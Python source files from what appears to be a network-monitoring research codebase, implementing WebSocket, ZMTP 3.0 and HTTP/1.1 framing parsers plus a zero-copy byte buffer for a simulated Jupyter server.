                    # header cap already bounded it (frame cap == message
                    # cap), so it is a complete message as-is.
                    messages_append((opcode, payload))
                elif op >= 8:
                    # Control frames pass through, FIN or not.
                    messages_append((opcode, payload))
                else:
                    self._process(Frame(bool(b0 & 0x80), opcode, payload, bool(masked)))
        finally:
            self.bytes_consumed += pos
            self._consumed = pos

    def _process(self, frame: Frame) -> None:
        if frame.opcode.is_control:
            self._messages.append((frame.opcode, frame.payload))
            return
        # Fast path: an unfragmented data frame with no message in
        # progress (the overwhelmingly common case) skips the fragment
        # bookkeeping entirely.
        if frame.fin and self._fragment_opcode is None and frame.opcode != Opcode.CONTINUATION:
            if len(frame.payload) > self.max_message_size:
                raise ProtocolError(
                    f"message exceeds cap ({len(frame.payload)} > {self.max_message_size})")
            self._messages.append((frame.opcode, frame.payload))
            return
        if frame.opcode == Opcode.CONTINUATION:
            if self._fragment_opcode is None:
                raise ProtocolError("continuation frame with no message in progress")
            self._fragments.append(frame.payload)
        else:
            if self._fragment_opcode is not None:
                raise ProtocolError("new data frame while fragmented message in progress")
            self._fragment_opcode = frame.opcode
            self._fragments = [frame.payload]
        total = sum(len(f) for f in self._fragments)
        if total > self.max_message_size:
            raise ProtocolError(f"message exceeds cap ({total} > {self.max_message_size})")
        if frame.fin:
            self._messages.append((self._fragment_opcode, b"".join(self._fragments)))
            self._fragment_opcode = None
            self._fragments = []

    def frames(self) -> List[Frame]:
        """Drain and return raw frames decoded so far."""
        out, self._frames = self._frames, []
        return out

    def messages(self) -> List[Tuple[Opcode, bytes]]:
        """Drain and return complete messages (control frames pass through)."""
        out, self._messages = self._messages, []
        if self._counters is not None:
            self._counters.on_drain(
                len(out), self.bytes_consumed - self._counted_bytes)
            self._counted_bytes = self.bytes_consumed
        return out
