"""ZMTP 3.0 (ZeroMQ Message Transport Protocol) framing.

Jupyter kernels listen on raw TCP ports (shell/iopub/control/stdin/hb)
speaking ZeroMQ; on the wire that is ZMTP.  The monitor's ZMTP analyzer
parses exactly what this module emits:

- the 64-byte greeting (signature ``\\xff...\\x7f``, version 3.0,
  mechanism, as-server flag, filler),
- command and message frames with SHORT (1-byte) and LONG (8-byte)
  length encodings and the MORE continuation flag,
- multipart message assembly.

The subset omits the full NULL-mechanism READY metadata negotiation
(we emit a fixed READY command) — handshake *content* is irrelevant to
the observability experiments, framing fidelity is what matters.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from typing import List, Optional, Tuple

from repro.util.errors import ProtocolError

SIGNATURE_PREFIX = b"\xff\x00\x00\x00\x00\x00\x00\x00\x01\x7f"
GREETING_SIZE = 64

FLAG_MORE = 0x01
FLAG_LONG = 0x02
FLAG_COMMAND = 0x04


def encode_greeting(*, mechanism: str = "NULL", as_server: bool = False) -> bytes:
    """Build the 64-byte ZMTP 3.0 greeting."""
    mech = mechanism.encode("ascii")
    if len(mech) > 20:
        raise ProtocolError("mechanism name too long")
    return (
        SIGNATURE_PREFIX
        + bytes([3, 0])  # major, minor
        + mech.ljust(20, b"\x00")
        + (b"\x01" if as_server else b"\x00")
        + b"\x00" * 31
    )


def parse_greeting(data: bytes) -> Tuple[Optional[dict], bytes]:
    """Parse a greeting; returns ``(None, data)`` if incomplete."""
    if len(data) < GREETING_SIZE:
        return None, data
    g = data[:GREETING_SIZE]
    if g[0] != 0xFF or g[9] != 0x7F:
        raise ProtocolError("bad ZMTP signature")
    info = {
        "version": (g[10], g[11]),
        "mechanism": g[12:32].rstrip(b"\x00").decode("ascii", "replace"),
        "as_server": bool(g[32]),
    }
    return info, data[GREETING_SIZE:]


@dataclass
class ZmtpFrame:
    """One ZMTP frame (command or message part)."""

    payload: bytes
    more: bool = False
    command: bool = False


def encode_zmtp_frame(frame: ZmtpFrame) -> bytes:
    flags = 0
    if frame.more:
        flags |= FLAG_MORE
    if frame.command:
        flags |= FLAG_COMMAND
    n = len(frame.payload)
    if n <= 255:
        return bytes([flags]) + bytes([n]) + frame.payload
    return bytes([flags | FLAG_LONG]) + struct.pack(">Q", n) + frame.payload


def decode_zmtp_frame(data: bytes) -> Tuple[Optional[ZmtpFrame], bytes]:
    if len(data) < 2:
        return None, data
    flags = data[0]
    if flags & ~(FLAG_MORE | FLAG_LONG | FLAG_COMMAND):
        raise ProtocolError(f"reserved ZMTP flag bits set: {flags:#x}")
    if flags & FLAG_LONG:
        if len(data) < 9:
            return None, data
        (n,) = struct.unpack(">Q", data[1:9])
        off = 9
    else:
        n = data[1]
        off = 2
    if len(data) < off + n:
        return None, data
    payload = data[off : off + n]
    return (
        ZmtpFrame(payload, more=bool(flags & FLAG_MORE), command=bool(flags & FLAG_COMMAND)),
        data[off + n :],
    )


def encode_command(name: str, body: bytes = b"") -> bytes:
    """Encode a ZMTP command frame (e.g. READY)."""
    name_b = name.encode("ascii")
    return encode_zmtp_frame(ZmtpFrame(bytes([len(name_b)]) + name_b + body, command=True))


def encode_ready(socket_type: str) -> bytes:
    """A minimal READY command advertising ``Socket-Type``."""
    key = b"Socket-Type"
    val = socket_type.encode("ascii")
    body = bytes([len(key)]) + key + struct.pack(">I", len(val)) + val
    return encode_command("READY", body)


def encode_multipart(parts: List[bytes]) -> bytes:
    """Encode a multipart ZeroMQ message (MORE set on all but the last)."""
    if not parts:
        raise ProtocolError("multipart message needs at least one part")
    out = b""
    for i, part in enumerate(parts):
        out += encode_zmtp_frame(ZmtpFrame(part, more=i < len(parts) - 1))
    return out


def decode_multipart(data: bytes) -> Tuple[Optional[List[bytes]], bytes]:
    """Decode one complete multipart message; ``(None, data)`` if incomplete."""
    parts: List[bytes] = []
    rest = data
    while True:
        frame, rest2 = decode_zmtp_frame(rest)
        if frame is None:
            return None, data
        if frame.command:
            # Commands are not message parts; skip them transparently.
            rest = rest2
            continue
        parts.append(frame.payload)
        rest = rest2
        if not frame.more:
            return parts, rest


class ZmtpDecoder:
    """Incremental ZMTP stream decoder: greeting, commands, multiparts.

    Mirrors :class:`repro.wire.websocket.WebSocketDecoder` so the
    monitor can treat both uniformly.
    """

    def __init__(self):
        self._buffer = b""
        self.greeting: Optional[dict] = None
        self._parts: List[bytes] = []
        self._messages: List[List[bytes]] = []
        self._commands: List[bytes] = []

    def feed(self, data: bytes) -> None:
        self._buffer += data
        if self.greeting is None:
            greeting, self._buffer = parse_greeting(self._buffer)
            if greeting is None:
                return
            self.greeting = greeting
        while True:
            frame, self._buffer = decode_zmtp_frame(self._buffer)
            if frame is None:
                return
            if frame.command:
                self._commands.append(frame.payload)
                continue
            self._parts.append(frame.payload)
            if not frame.more:
                self._messages.append(self._parts)
                self._parts = []

    def messages(self) -> List[List[bytes]]:
        out, self._messages = self._messages, []
        return out

    def commands(self) -> List[bytes]:
        out, self._commands = self._commands, []
        return out
