"""ZMTP 3.0 (ZeroMQ Message Transport Protocol) framing.

Jupyter kernels listen on raw TCP ports (shell/iopub/control/stdin/hb)
speaking ZeroMQ; on the wire that is ZMTP.  The monitor's ZMTP analyzer
parses exactly what this module emits:

- the 64-byte greeting (signature ``\\xff...\\x7f``, version 3.0,
  mechanism, as-server flag, filler),
- command and message frames with SHORT (1-byte) and LONG (8-byte)
  length encodings and the MORE continuation flag,
- multipart message assembly.

The subset omits the full NULL-mechanism READY metadata negotiation
(we emit a fixed READY command) — handshake *content* is irrelevant to
the observability experiments, framing fidelity is what matters.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from typing import List, Optional, Tuple

from repro.util.errors import ProtocolError
from repro.wire.buffer import ByteCursor

SIGNATURE_PREFIX = b"\xff\x00\x00\x00\x00\x00\x00\x00\x01\x7f"
GREETING_SIZE = 64

FLAG_MORE = 0x01
FLAG_LONG = 0x02
FLAG_COMMAND = 0x04


def encode_greeting(*, mechanism: str = "NULL", as_server: bool = False) -> bytes:
    """Build the 64-byte ZMTP 3.0 greeting."""
    mech = mechanism.encode("ascii")
    if len(mech) > 20:
        raise ProtocolError("mechanism name too long")
    return (
        SIGNATURE_PREFIX
        + bytes([3, 0])  # major, minor
        + mech.ljust(20, b"\x00")
        + (b"\x01" if as_server else b"\x00")
        + b"\x00" * 31
    )


def parse_greeting(data: bytes) -> Tuple[Optional[dict], bytes]:
    """Parse a greeting; returns ``(None, data)`` if incomplete."""
    if len(data) < GREETING_SIZE:
        return None, data
    g = data[:GREETING_SIZE]
    if g[0] != 0xFF or g[9] != 0x7F:
        raise ProtocolError("bad ZMTP signature")
    info = {
        "version": (g[10], g[11]),
        "mechanism": g[12:32].rstrip(b"\x00").decode("ascii", "replace"),
        "as_server": bool(g[32]),
    }
    return info, data[GREETING_SIZE:]


@dataclass(slots=True)
class ZmtpFrame:
    """One ZMTP frame (command or message part)."""

    payload: bytes
    more: bool = False
    command: bool = False


def encode_zmtp_frame(frame: ZmtpFrame) -> bytes:
    flags = 0
    if frame.more:
        flags |= FLAG_MORE
    if frame.command:
        flags |= FLAG_COMMAND
    n = len(frame.payload)
    if n <= 255:
        return bytes([flags]) + bytes([n]) + frame.payload
    return bytes([flags | FLAG_LONG]) + struct.pack(">Q", n) + frame.payload


def _parse_zmtp_frame(buf: bytes | memoryview) -> Tuple[Optional[ZmtpFrame], int]:
    """Parse one frame from the head of ``buf`` (bytes or memoryview)
    without consuming; returns ``(frame, bytes_consumed)`` or ``(None, 0)``."""
    avail = len(buf)
    if avail < 2:
        return None, 0
    flags = buf[0]
    if flags & ~(FLAG_MORE | FLAG_LONG | FLAG_COMMAND):
        raise ProtocolError(f"reserved ZMTP flag bits set: {flags:#x}")
    if flags & FLAG_LONG:
        if avail < 9:
            return None, 0
        (n,) = struct.unpack(">Q", buf[1:9])
        off = 9
    else:
        n = buf[1]
        off = 2
    if avail < off + n:
        return None, 0
    payload = bytes(buf[off : off + n])
    return (
        ZmtpFrame(payload, more=bool(flags & FLAG_MORE), command=bool(flags & FLAG_COMMAND)),
        off + n,
    )


def decode_zmtp_frame(data: bytes) -> Tuple[Optional[ZmtpFrame], bytes]:
    frame, consumed = _parse_zmtp_frame(data)
    if frame is None:
        return None, data
    return frame, data[consumed:]


def encode_command(name: str, body: bytes = b"") -> bytes:
    """Encode a ZMTP command frame (e.g. READY)."""
    name_b = name.encode("ascii")
    return encode_zmtp_frame(ZmtpFrame(bytes([len(name_b)]) + name_b + body, command=True))


def encode_ready(socket_type: str) -> bytes:
    """A minimal READY command advertising ``Socket-Type``."""
    key = b"Socket-Type"
    val = socket_type.encode("ascii")
    body = bytes([len(key)]) + key + struct.pack(">I", len(val)) + val
    return encode_command("READY", body)


def encode_multipart(parts: List[bytes]) -> bytes:
    """Encode a multipart ZeroMQ message (MORE set on all but the last)."""
    if not parts:
        raise ProtocolError("multipart message needs at least one part")
    last = len(parts) - 1
    return b"".join(
        encode_zmtp_frame(ZmtpFrame(part, more=i < last)) for i, part in enumerate(parts)
    )


def decode_multipart(data: bytes) -> Tuple[Optional[List[bytes]], bytes]:
    """Decode one complete multipart message; ``(None, data)`` if incomplete."""
    parts: List[bytes] = []
    rest = data
    while True:
        frame, rest2 = decode_zmtp_frame(rest)
        if frame is None:
            return None, data
        if frame.command:
            # Commands are not message parts; skip them transparently.
            rest = rest2
            continue
        parts.append(frame.payload)
        rest = rest2
        if not frame.more:
            return parts, rest


class ZmtpDecoder:
    """Incremental ZMTP stream decoder: greeting, commands, multiparts.

    Mirrors :class:`repro.wire.websocket.WebSocketDecoder` so the
    monitor can treat both uniformly.
    """

    def __init__(self, *, max_frame_size: int = 64 * 1024 * 1024,
                 collect_commands: bool = True, counters=None):
        self._cursor = ByteCursor()
        #: True iff the cursor is empty — lets the steady-state feed skip
        #: even the cursor's Python-level ``__bool__`` call.
        self._clean = True
        self.greeting: Optional[dict] = None
        self._parts: List[bytes] = []
        self._messages: List[List[bytes]] = []
        #: Command retention is opt-out, like WebSocketDecoder's frame
        #: retention: consumers that never drain :meth:`commands` (the
        #: monitor) pass ``collect_commands=False``.
        self._collect_commands = collect_commands
        self._commands: List[bytes] = []
        #: Oversize frames are rejected at *header* time so a peer
        #: declaring a terabyte part cannot make us buffer toward it.
        self.max_frame_size = max_frame_size
        #: Same accounting :class:`WebSocketDecoder` keeps — greeting
        #: bytes included, so per-layer counters add up to stream bytes.
        self.bytes_consumed = 0
        self._consumed = 0  # offset consumed by the last _parse_frames call
        #: Optional telemetry hook (``DecoderCounters``), charged once
        #: per drained batch — ``None`` keeps the hot loop telemetry-free.
        self._counters = counters
        self._counted_bytes = 0

    def feed(self, data: bytes) -> None:
        if self._clean and self.greeting is not None:
            # Fast path: nothing buffered — parse straight out of the
            # incoming bytes, buffering only an incomplete tail (the
            # steady state never touches the cursor at all).  On error
            # the unconsumed tail, bad frame included, stays buffered.
            avail = len(data)
            try:
                self._parse_frames(data, 0, avail)
            finally:
                done = self._consumed
                if done < avail:
                    self._cursor.append(data[done:] if done else data)
                    self._clean = False
            return
        cursor = self._cursor
        cursor.append(data)
        self._clean = False
        if self.greeting is None:
            if len(cursor) < GREETING_SIZE:
                return
            greeting, _ = parse_greeting(cursor.peek(GREETING_SIZE))
            cursor.skip(GREETING_SIZE)
            self.bytes_consumed += GREETING_SIZE
            self.greeting = greeting
        # Single pass over one view and one cursor advance per feed.
        try:
            with cursor.view() as view:
                self._parse_frames(view, 0, len(view))
        finally:
            # The view is released by now; good frames decoded before an
            # error stay consumed, the bad frame's bytes stay buffered.
            if self._consumed:
                cursor.skip(self._consumed)
            self._clean = not cursor

    def _parse_frames(self, buf: bytes | memoryview, pos: int, avail: int) -> int:
        """Consume every complete frame in ``buf[pos:avail]``; returns the
        new offset (also left in ``self._consumed`` for error cleanup).
        Frame fields are parsed inline and per-frame bookkeeping lives in
        locals (written back once per call), so the per-part hot loop
        allocates nothing but the payload bytes — and when ``buf`` is
        already ``bytes`` the payload is a plain slice, not a copy of a
        copy through ``bytes()``."""
        self._consumed = 0
        start = pos
        parts = self._parts
        parts_append = parts.append
        messages_append = self._messages.append
        max_size = self.max_frame_size
        is_bytes = type(buf) is bytes
        collect_commands = self._collect_commands
        f_more, f_long, f_cmd = FLAG_MORE, FLAG_LONG, FLAG_COMMAND
        bad_bits = ~(f_more | f_long | f_cmd)
        try:
            while True:
                if avail < pos + 2:
                    break
                flags = buf[pos]
                if flags <= 1:
                    # Steady state: SHORT message frame (flags 0x00 or
                    # 0x01).  One length byte, one slice, one flag test —
                    # the reserved-bits / LONG / COMMAND checks are all
                    # statically false here.
                    end = pos + 2 + buf[pos + 1]
                    if avail < end:
                        break
                    payload = buf[pos + 2:end] if is_bytes else bytes(buf[pos + 2:end])
                    pos = end
                    parts_append(payload)
                    if not flags:
                        messages_append(parts)
                        self._parts = parts = []
                        parts_append = parts.append
                    continue
                if flags & bad_bits:
                    raise ProtocolError(f"reserved ZMTP flag bits set: {flags:#x}")
                if flags & f_long:
                    if avail < pos + 9:
                        break
                    (n,) = struct.unpack_from(">Q", buf, pos + 1)
                    if n > max_size:
                        raise ProtocolError(
                            f"declared ZMTP frame length {n} exceeds cap ({max_size})")
                    off = pos + 9
                else:
                    n = buf[pos + 1]
                    off = pos + 2
                end = off + n
                if avail < end:
                    break
                payload = buf[off:end] if is_bytes else bytes(buf[off:end])
                pos = end
                if flags & f_cmd:
                    if collect_commands:
                        self._commands.append(payload)
                else:
                    parts_append(payload)
                    if not flags & f_more:
                        messages_append(parts)
                        self._parts = parts = []
                        parts_append = parts.append
        finally:
            self.bytes_consumed += pos - start
            self._consumed = pos
        return pos

    def messages(self) -> List[List[bytes]]:
        out, self._messages = self._messages, []
        if self._counters is not None:
            self._counters.on_drain(
                len(out), self.bytes_consumed - self._counted_bytes)
            self._counted_bytes = self.bytes_consumed
        return out

    def commands(self) -> List[bytes]:
        out, self._commands = self._commands, []
        return out
