"""Shared zero-copy byte cursor for all incremental wire decoders.

Every stream parser in this codebase (WebSocket, ZMTP, HTTP, the
monitor's per-direction reassembly buffers, the hub proxy's relay
buffers) used to follow the same pattern::

    self._buffer += data                  # copy #1
    frame, self._buffer = decode(...)     # copy #2: re-slice the tail

Both lines copy the *entire* unconsumed buffer, so feeding N bytes in
k chunks costs O(N * k) — quadratic when chunks are small, which is
exactly what a passive tap sees.  ``ByteCursor`` replaces that with a
bytearray plus a consumed-offset: appends are amortized O(1), consuming
advances an integer, and parsers read through :meth:`view` memoryviews
without copying.  The dead prefix is compacted away only when it is both
large and the majority of the allocation, keeping total work O(N).

Rules for parser authors:

- :meth:`view` returns a memoryview of the unread region.  Release it
  (``with cursor.view() as v:``) before calling :meth:`append`,
  :meth:`skip`, :meth:`take` or anything else that may resize the
  underlying bytearray, or Python raises :class:`BufferError`.
- :meth:`peek` copies and is meant for small fixed headers.
- Copy payload bytes out (``bytes(v[a:b])``) exactly once, when a
  complete message is known to be present.
"""

from __future__ import annotations

from typing import Optional, Union

BytesLike = Union[bytes, bytearray, memoryview]

#: Compact only once this many dead bytes have accumulated; below it the
#: occasional memmove costs more than the memory it reclaims.
DEFAULT_COMPACT_AT = 64 * 1024


class ByteCursor:
    """A growable byte buffer with an O(1) consume cursor."""

    __slots__ = ("_buf", "_pos", "_compact_at", "_mark", "total_appended", "total_consumed")

    def __init__(self, data: BytesLike = b"", *, compact_at: int = DEFAULT_COMPACT_AT):
        self._buf = bytearray(data)
        self._pos = 0
        self._compact_at = max(1, compact_at)
        self._mark = 0  # find_marked() resume point (cursor-relative)
        self.total_appended = len(self._buf)
        self.total_consumed = 0

    # -- introspection -------------------------------------------------------
    def __len__(self) -> int:
        return len(self._buf) - self._pos

    def __bool__(self) -> bool:
        return len(self._buf) > self._pos

    def __getitem__(self, index: int) -> int:
        if index < 0 or index >= len(self):
            raise IndexError("cursor index out of range")
        return self._buf[self._pos + index]

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"ByteCursor(unread={len(self)}, consumed={self.total_consumed})"

    # -- reading -------------------------------------------------------------
    def view(self) -> memoryview:
        """Zero-copy memoryview of the unread region (release before mutating)."""
        return memoryview(self._buf)[self._pos:]

    def peek(self, n: Optional[int] = None, offset: int = 0) -> bytes:
        """Copy out up to ``n`` unread bytes starting at ``offset`` (small reads)."""
        start = self._pos + offset
        end = len(self._buf) if n is None else min(start + n, len(self._buf))
        return bytes(self._buf[start:end])

    def find(self, sub: bytes, start: int = 0) -> int:
        """Index of ``sub`` relative to the cursor, or -1 — no copying."""
        idx = self._buf.find(sub, self._pos + start)
        return -1 if idx < 0 else idx - self._pos

    def find_marked(self, sub: bytes) -> int:
        """Like :meth:`find`, but remembers how far it scanned so a
        delimiter search over a growing buffer (e.g. an HTTP header end
        that hasn't arrived yet) resumes where it left off instead of
        rescanning from the start each feed — total scan work stays O(n).
        The mark tracks consumption and assumes the same ``sub`` is
        searched until bytes are consumed."""
        start = self._mark - len(sub) + 1
        idx = self.find(sub, start if start > 0 else 0)
        self._mark = len(self) if idx < 0 else idx
        return idx

    # -- writing -------------------------------------------------------------
    def append(self, data: BytesLike) -> None:
        self._buf += data
        self.total_appended += len(data)

    # -- consuming -----------------------------------------------------------
    def skip(self, n: int) -> None:
        """Consume ``n`` unread bytes without materializing them."""
        if n < 0 or n > len(self):
            raise ValueError(f"cannot skip {n} of {len(self)} unread bytes")
        self._pos += n
        self.total_consumed += n
        self._mark = self._mark - n if self._mark > n else 0
        self._maybe_compact()

    def take(self, n: int) -> bytes:
        """Consume and return exactly ``n`` unread bytes (one copy)."""
        if n < 0 or n > len(self):
            raise ValueError(f"cannot take {n} of {len(self)} unread bytes")
        start = self._pos
        out = bytes(self._buf[start:start + n])
        self._pos = start + n
        self.total_consumed += n
        self._mark = self._mark - n if self._mark > n else 0
        self._maybe_compact()
        return out

    def take_all(self) -> bytes:
        """Consume and return everything unread."""
        return self.take(len(self))

    def clear(self) -> None:
        """Drop all unread bytes (protocol-error recovery path)."""
        self.total_consumed += len(self)
        self._buf = bytearray()
        self._pos = 0
        self._mark = 0

    def _maybe_compact(self) -> None:
        # Compact when the dead prefix is big *and* dominates the buffer;
        # the copied tail is then < the bytes freed, so total compaction
        # work stays O(total bytes appended).
        pos = self._pos
        if pos >= self._compact_at and pos * 2 >= len(self._buf):
            del self._buf[:pos]
            self._pos = 0
