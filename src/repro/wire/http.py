"""Minimal HTTP/1.1 message codec.

Covers exactly what the simulated Jupyter server and the monitor need:
request/response lines, headers, Content-Length bodies, and the
``Upgrade: websocket`` handshake.  Chunked transfer encoding is out of
scope (Jupyter's REST API and the WebSocket upgrade never require it in
this simulation) — the parser raises :class:`ProtocolError` if it sees
it, and the monitor records a ``weird`` event instead of crashing.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Optional, Tuple
from urllib.parse import parse_qs, urlsplit

from repro.util.errors import ProtocolError
from repro.wire.buffer import ByteCursor

CRLF = b"\r\n"
HEADER_END = b"\r\n\r\n"


def _ci_get(headers: Dict[str, str], name: str, default: str = "") -> str:
    """Case-insensitive header lookup (parsed messages store lowercase keys,
    hand-built ones keep their original casing)."""
    lname = name.lower()
    if lname in headers:
        return headers[lname]
    for k, v in headers.items():
        if k.lower() == lname:
            return v
    return default


@dataclass
class HttpRequest:
    """Parsed (or to-be-encoded) HTTP request."""

    method: str
    target: str
    headers: Dict[str, str] = field(default_factory=dict)
    body: bytes = b""
    version: str = "HTTP/1.1"

    @property
    def path(self) -> str:
        return urlsplit(self.target).path

    @property
    def query(self) -> Dict[str, list[str]]:
        return parse_qs(urlsplit(self.target).query)

    def header(self, name: str, default: str = "") -> str:
        return _ci_get(self.headers, name, default)

    def is_websocket_upgrade(self) -> bool:
        return (
            "upgrade" in self.header("connection").lower()
            and self.header("upgrade").lower() == "websocket"
        )

    def encode(self) -> bytes:
        headers = dict(self.headers)
        if self.body and "content-length" not in {k.lower() for k in headers}:
            headers["Content-Length"] = str(len(self.body))
        lines = [f"{self.method} {self.target} {self.version}".encode()]
        lines += [f"{k}: {v}".encode() for k, v in headers.items()]
        return CRLF.join(lines) + HEADER_END + self.body


@dataclass
class HttpResponse:
    """Parsed (or to-be-encoded) HTTP response."""

    status: int
    reason: str = ""
    headers: Dict[str, str] = field(default_factory=dict)
    body: bytes = b""
    version: str = "HTTP/1.1"

    _REASONS = {
        200: "OK", 201: "Created", 204: "No Content", 101: "Switching Protocols",
        301: "Moved Permanently", 302: "Found", 400: "Bad Request",
        401: "Unauthorized", 403: "Forbidden", 404: "Not Found",
        405: "Method Not Allowed", 413: "Payload Too Large",
        429: "Too Many Requests", 431: "Request Header Fields Too Large",
        500: "Internal Server Error", 503: "Service Unavailable",
    }

    def header(self, name: str, default: str = "") -> str:
        return _ci_get(self.headers, name, default)

    def encode(self) -> bytes:
        reason = self.reason or self._REASONS.get(self.status, "Unknown")
        headers = dict(self.headers)
        if "content-length" not in {k.lower() for k in headers} and self.status != 101:
            headers["Content-Length"] = str(len(self.body))
        lines = [f"{self.version} {self.status} {reason}".encode()]
        lines += [f"{k}: {v}".encode() for k, v in headers.items()]
        return CRLF.join(lines) + HEADER_END + self.body


def _parse_headers(block: bytes) -> Dict[str, str]:
    headers: Dict[str, str] = {}
    for line in block.split(CRLF):
        if not line:
            continue
        if b":" not in line:
            raise ProtocolError(f"malformed header line: {line!r}")
        name, _, value = line.partition(b":")
        headers[name.decode("latin-1").strip().lower()] = value.decode("latin-1").strip()
    return headers


def _content_length(headers: Dict[str, str]) -> int:
    """Validated Content-Length: a malformed or negative value must be a
    :class:`ProtocolError` (which callers handle), never a ValueError
    escaping into a data callback."""
    raw = headers.get("content-length", "0") or "0"
    try:
        length = int(raw)
    except ValueError:
        raise ProtocolError(f"invalid Content-Length: {raw!r}") from None
    if length < 0:
        raise ProtocolError(f"negative Content-Length: {length}")
    return length


def _parse_request_head(head: bytes) -> Tuple[str, str, str, Dict[str, str], int]:
    """Parse a request head block; returns (method, target, version, headers,
    content_length).  Raises :class:`ProtocolError` on malformed input."""
    first, _, header_block = head.partition(CRLF)
    parts = first.split(b" ", 2)
    if len(parts) != 3:
        raise ProtocolError(f"malformed request line: {first!r}")
    method, target, version = (p.decode("latin-1") for p in parts)
    if not version.startswith("HTTP/"):
        raise ProtocolError(f"bad HTTP version: {version!r}")
    headers = _parse_headers(header_block)
    if headers.get("transfer-encoding", "").lower() == "chunked":
        raise ProtocolError("chunked transfer encoding unsupported")
    return method, target, version, headers, _content_length(headers)


def _parse_response_head(head: bytes) -> Tuple[str, int, str, Dict[str, str], int]:
    """Parse a response head block; returns (version, status, reason,
    headers, content_length)."""
    first, _, header_block = head.partition(CRLF)
    parts = first.split(b" ", 2)
    if len(parts) < 2 or not parts[0].startswith(b"HTTP/"):
        raise ProtocolError(f"malformed status line: {first!r}")
    version = parts[0].decode("latin-1")
    try:
        status = int(parts[1])
    except ValueError:
        raise ProtocolError(f"non-numeric status code: {parts[1]!r}") from None
    reason = parts[2].decode("latin-1") if len(parts) > 2 else ""
    headers = _parse_headers(header_block)
    return version, status, reason, headers, _content_length(headers)


def parse_request(data: bytes) -> Tuple[Optional[HttpRequest], bytes]:
    """Incrementally parse one request from ``data``.

    Returns ``(request, remainder)``; ``(None, data)`` if incomplete.
    """
    end = data.find(HEADER_END)
    if end < 0:
        return None, data
    method, target, version, headers, length = _parse_request_head(data[:end])
    rest = data[end + len(HEADER_END):]
    if len(rest) < length:
        return None, data
    body, remainder = rest[:length], rest[length:]
    return HttpRequest(method, target, headers, body, version), remainder


def parse_request_from(cursor: ByteCursor) -> Optional[HttpRequest]:
    """Cursor-based incremental request parse: consumes from ``cursor``
    only when a complete request is present, so re-feeding never
    re-copies the unconsumed tail (the seed's quadratic re-slicing).
    The marked find also resumes the header-end scan across feeds, so a
    dribbled header costs O(n) total scanning, not O(n²)."""
    end = cursor.find_marked(HEADER_END)
    if end < 0:
        return None
    method, target, version, headers, length = _parse_request_head(cursor.peek(end))
    head_size = end + len(HEADER_END)
    if len(cursor) < head_size + length:
        return None
    cursor.skip(head_size)
    body = cursor.take(length)
    return HttpRequest(method, target, headers, body, version)


def parse_response(data: bytes) -> Tuple[Optional[HttpResponse], bytes]:
    """Incrementally parse one response from ``data``.

    A ``101 Switching Protocols`` response has no body; everything after
    the header block belongs to the upgraded protocol and is returned as
    the remainder.
    """
    end = data.find(HEADER_END)
    if end < 0:
        return None, data
    version, status, reason, headers, length = _parse_response_head(data[:end])
    rest = data[end + len(HEADER_END):]
    if status == 101:
        return HttpResponse(status, reason, headers, b"", version), rest
    if len(rest) < length:
        return None, data
    body, remainder = rest[:length], rest[length:]
    return HttpResponse(status, reason, headers, body, version), remainder


def parse_response_from(cursor: ByteCursor) -> Optional[HttpResponse]:
    """Cursor-based incremental response parse (see
    :func:`parse_request_from`).  For a 101 response the upgraded-protocol
    bytes stay unconsumed in the cursor."""
    end = cursor.find_marked(HEADER_END)
    if end < 0:
        return None
    version, status, reason, headers, length = _parse_response_head(cursor.peek(end))
    head_size = end + len(HEADER_END)
    if status == 101:
        cursor.skip(head_size)
        return HttpResponse(status, reason, headers, b"", version)
    if len(cursor) < head_size + length:
        return None
    cursor.skip(head_size)
    body = cursor.take(length)
    return HttpResponse(status, reason, headers, body, version)
