"""Minimal HTTP/1.1 message codec.

Covers exactly what the simulated Jupyter server and the monitor need:
request/response lines, headers, Content-Length bodies, and the
``Upgrade: websocket`` handshake.  Chunked transfer encoding is out of
scope (Jupyter's REST API and the WebSocket upgrade never require it in
this simulation) — the parser raises :class:`ProtocolError` if it sees
it, and the monitor records a ``weird`` event instead of crashing.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Optional, Tuple
from urllib.parse import parse_qs, urlsplit

from repro.util.errors import ProtocolError

CRLF = b"\r\n"
HEADER_END = b"\r\n\r\n"


def _ci_get(headers: Dict[str, str], name: str, default: str = "") -> str:
    """Case-insensitive header lookup (parsed messages store lowercase keys,
    hand-built ones keep their original casing)."""
    lname = name.lower()
    if lname in headers:
        return headers[lname]
    for k, v in headers.items():
        if k.lower() == lname:
            return v
    return default


@dataclass
class HttpRequest:
    """Parsed (or to-be-encoded) HTTP request."""

    method: str
    target: str
    headers: Dict[str, str] = field(default_factory=dict)
    body: bytes = b""
    version: str = "HTTP/1.1"

    @property
    def path(self) -> str:
        return urlsplit(self.target).path

    @property
    def query(self) -> Dict[str, list[str]]:
        return parse_qs(urlsplit(self.target).query)

    def header(self, name: str, default: str = "") -> str:
        return _ci_get(self.headers, name, default)

    def is_websocket_upgrade(self) -> bool:
        return (
            "upgrade" in self.header("connection").lower()
            and self.header("upgrade").lower() == "websocket"
        )

    def encode(self) -> bytes:
        headers = dict(self.headers)
        if self.body and "content-length" not in {k.lower() for k in headers}:
            headers["Content-Length"] = str(len(self.body))
        lines = [f"{self.method} {self.target} {self.version}".encode()]
        lines += [f"{k}: {v}".encode() for k, v in headers.items()]
        return CRLF.join(lines) + HEADER_END + self.body


@dataclass
class HttpResponse:
    """Parsed (or to-be-encoded) HTTP response."""

    status: int
    reason: str = ""
    headers: Dict[str, str] = field(default_factory=dict)
    body: bytes = b""
    version: str = "HTTP/1.1"

    _REASONS = {
        200: "OK", 201: "Created", 204: "No Content", 101: "Switching Protocols",
        301: "Moved Permanently", 302: "Found", 400: "Bad Request",
        401: "Unauthorized", 403: "Forbidden", 404: "Not Found",
        405: "Method Not Allowed", 429: "Too Many Requests",
        500: "Internal Server Error", 503: "Service Unavailable",
    }

    def header(self, name: str, default: str = "") -> str:
        return _ci_get(self.headers, name, default)

    def encode(self) -> bytes:
        reason = self.reason or self._REASONS.get(self.status, "Unknown")
        headers = dict(self.headers)
        if "content-length" not in {k.lower() for k in headers} and self.status != 101:
            headers["Content-Length"] = str(len(self.body))
        lines = [f"{self.version} {self.status} {reason}".encode()]
        lines += [f"{k}: {v}".encode() for k, v in headers.items()]
        return CRLF.join(lines) + HEADER_END + self.body


